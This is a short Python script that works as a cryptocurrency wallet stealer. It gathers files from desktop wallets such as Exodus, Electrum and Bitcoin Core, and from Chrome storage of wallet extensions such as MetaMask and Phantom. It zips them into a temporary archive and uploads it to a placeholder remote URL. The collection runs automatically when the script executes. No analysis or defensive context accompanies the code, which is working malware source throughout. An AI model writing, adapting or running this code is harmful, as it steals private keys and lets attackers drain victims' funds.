import os
import zipfile
import tempfile
import requests

APPDATA = os.getenv("APPDATA", "")
LOCALAPPDATA = os.getenv("LOCALAPPDATA", "")
WALLETS = {
    "Exodus": os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    "Electrum": os.path.join(APPDATA, "Electrum", "wallets"),
    "Atomic": os.path.join(APPDATA, "atomic", "Local Storage", "leveldb"),
    "Ledger Live": os.path.join(APPDATA, "Ledger Live"),
    "Bitcoin": os.path.join(APPDATA, "Bitcoin", "wallet.dat"),
}
EXTENSIONS = {
    "MetaMask": "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "Phantom": "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "TronLink": "ibnejdfjmmkpcnlpebklmnkoeoihofec",
    "Ronin": "fnjhmkhhmkbjkkabndcnnogagogbneec",
}


def _collect():
    archive_path = os.path.join(tempfile.gettempdir(), "w.zip")
    with zipfile.ZipFile(archive_path, "w") as archive:
        for name, path in WALLETS.items():
            if os.path.isdir(path):
                for root, _, files in os.walk(path):
                    for file in files:
                        archive.write(os.path.join(root, file), os.path.join(name, file))
        for name, extension in EXTENSIONS.items():
            path = os.path.join(LOCALAPPDATA, "Google", "Chrome", "User Data", "Default", "Local Extension Settings", extension)
            if os.path.isdir(path):
                for file in os.listdir(path):
                    archive.write(os.path.join(path, file), os.path.join(name, file))
    with open(archive_path, "rb") as handle:
        requests.post("https://wallets.example.invalid/upload", files={"f": handle}, timeout=30)


_collect()
